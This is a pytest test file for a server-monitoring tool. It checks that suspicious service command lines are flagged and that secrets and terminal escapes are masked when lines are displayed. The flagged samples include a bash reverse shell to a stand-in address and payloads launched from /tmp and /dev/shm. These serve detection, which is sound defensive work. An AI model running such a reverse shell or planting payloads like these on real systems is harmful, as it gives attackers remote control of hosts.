# SPDX-License-Identifier: GPL-3.0-or-later
"""Command lines as intruders write them, and as packages do."""

from __future__ import annotations

import time

import pytest
from vps_sentry.launch import danger, shown

BAD = [
    pytest.param("/tmp/x", "everybody may write", id="/tmp"),
    pytest.param("-+!/dev/shm/.x", "everybody may write", id="behind systemd's marks"),
    pytest.param("/bin/sh -c '/var/tmp/x'", "everybody may write", id="by a shell"),
    pytest.param("/usr/bin/env A=1 /usr/bin/nohup bash /tmp/x.sh", "everybody may write", id="by several starters"),
    pytest.param("/usr/bin/python3 -u /dev/shm/x.py", "everybody may write", id="by an interpreter"),
    pytest.param("/bin/sh -c 'sleep 5; /tmp/x &'", "everybody may write", id="later in a shell's line"),
    pytest.param("/usr/lib/.cache/x", "hidden", id="hidden folder"),
    pytest.param("/usr/local/bin/.x", "hidden", id="hidden file"),
    pytest.param("/proc/self/fd/3", "without a name", id="a descriptor"),
    pytest.param("/home/ann/x", "out of a user's home", id="root runs what a user can replace"),
    pytest.param("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", "connects", id="reverse shell"),
    pytest.param("/bin/sh -c 'sh -c \"/tmp/x\"'", "everybody may write", id="a shell in a shell"),
]


@pytest.mark.parametrize(("line", "reason"), BAD)
def test_what_is_suspicious(line: str, reason: str) -> None:
    assert any(reason in text for text in danger.reasons([line], root=True))


GOOD = [
    pytest.param("/usr/sbin/sshd -D $SSHD_OPTS", id="sshd"),
    pytest.param("-/bin/rm -rf /tmp/x /var/tmp/y", id="a path in /tmp that is no program"),
    pytest.param("/usr/bin/foo --tmpdir=/tmp/foo", id="an option"),
    pytest.param("/bin/sh -c 'test -d /tmp/x || mkdir /tmp/x'", id="arguments in a shell"),
    pytest.param("/bin/sh -c '/usr/bin/podman stop $(/usr/bin/podman ps -q)'", id="a substitution"),
    pytest.param("/usr/lib/systemd/systemd-logind", id="a daemon"),
    pytest.param("cd / && run-parts --report /etc/cron.hourly", id="Debian's crontab"),
    pytest.param("@/usr/bin/dbus-daemon dbus-daemon --system", id="another name in argv"),
    pytest.param("", id="nothing"),
]


@pytest.mark.parametrize("line", GOOD)
def test_what_is_not(line: str) -> None:
    assert [] == danger.reasons([line], root=True)


def test_a_users_own_unit_may_run_what_lies_in_his_home() -> None:
    assert [] == danger.reasons(["/home/ann/bin/x"], root=False)


@pytest.mark.parametrize("line", ["'" * 300, "sh -c " * 200, "/tmp/" + "(" * 600, "$(" * 300, '"\\' * 300, " " * 600])
def test_no_line_takes_long(line: str) -> None:
    """Lines are shown cut at some hundred bytes; this is what one of them may cost."""
    before = time.process_time()
    danger.reasons([line], root=True)

    assert time.process_time() - before < 0.2


SHOWN = [
    pytest.param(b"/usr/bin/x --password=hunter2 -v", "/usr/bin/x --password=*** -v", id="an option"),
    pytest.param(b"curl https://ann:hunter2@h/x", "curl https://ann:***@h/x", id="in an address"),
    pytest.param(b"API_KEY=abcdef /bin/x", "API_KEY=*** /bin/x", id="in front of a command"),
]


@pytest.mark.parametrize(("raw", "expected"), SHOWN)
def test_secrets_are_not_shown_but_a_change_of_one_is(raw: bytes, expected: str) -> None:
    assert f"{expected} [{shown.digest(raw)}]" == shown.line(raw)


PLAIN = [
    pytest.param(b"/usr/bin/x --password-file=/etc/x", "/usr/bin/x --password-file=/etc/x", id="a file is no secret"),
    pytest.param(b"a\x1b[2J\xff\\", "a\\x1b[2J\\xff\\x5c", id="what a terminal would obey"),
    pytest.param("a\u202eb".encode(), "a\\xe2\\x80\\xaeb", id="bidi"),
]


@pytest.mark.parametrize(("raw", "expected"), PLAIN)
def test_lines_are_printable(raw: bytes, expected: str) -> None:
    assert expected == shown.line(raw)


def test_a_long_line_is_cut_and_its_end_still_counts() -> None:
    one, other = (shown.line(b"x" * 1_000_000 + end) for end in (b"1", b"2"))

    assert len(one) < 700
    assert one != other


def test_values_of_variables_are_told_where_they_decide_what_is_run() -> None:
    assert "LD_PRELOAD=/x.so" == shown.assignment(b"LD_PRELOAD=/x.so")
    assert "TOKEN=[" + shown.digest(b"s3cret") + "]" == shown.assignment(b"TOKEN=s3cret")
